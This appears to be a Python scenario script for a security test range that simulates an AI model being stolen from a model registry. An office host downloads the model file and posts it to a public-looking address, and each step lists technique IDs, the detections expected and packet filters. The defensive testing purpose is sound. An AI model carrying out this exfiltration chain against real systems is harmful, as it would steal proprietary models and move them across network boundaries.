"""The model is taken from the registry by a host that never asked for it, and carried out to the internet."""

SPEED = 2
STANDING = ("cleartext.protocol", "cleartext.login")
OPENED = (("enterprise", "edge", "8080"), ("enterprise", "internet", "any"))


def play(stage):
    model = stage.model()
    stage.registry(model)
    cloud = stage.python("cloud", "web.py", "192.31.196.80", 80)
    stage.listening(cloud, 80)
    stage.inference(60, period=3)
    stage.wait(25)
    with stage.step(
        "the model is downloaded to the office",
        actors=("office",),
        targets=("registry",),
        techniques=("T0882", "AML.T0035"),
        expected=("exfiltration.model_file", "boundary.it_ot", "boundary.conduit"),
        also=(
            "lateral.file_transfer",
            "lateral.relay",
        ),
        evidence="http && ip.addr == {office} && ip.addr == {registry}",
    ):
        stage.done(stage.python("office", "attack_beacon.py", "10.50.0.20", 8080, 1, f"/models/pump-wear/{model.name}"))
    with stage.step(
        "and posted to a public address",
        actors=("office",),
        targets=("cloud",),
        techniques=("T0882", "AML.T0025"),
        expected=("exfiltration.new_destination", "exfiltration.model_file", "exfiltration.volume"),
        also=("boundary.internet", "lateral.file_transfer", "lateral.relay", "lateral.beacon"),
        evidence="ip.src == {office} && ip.dst == {cloud}",
    ):
        stage.done(stage.python("office", "attack_beacon.py", "192.31.196.80", 80, 1, "/upload", model))
    stage.wait(10)
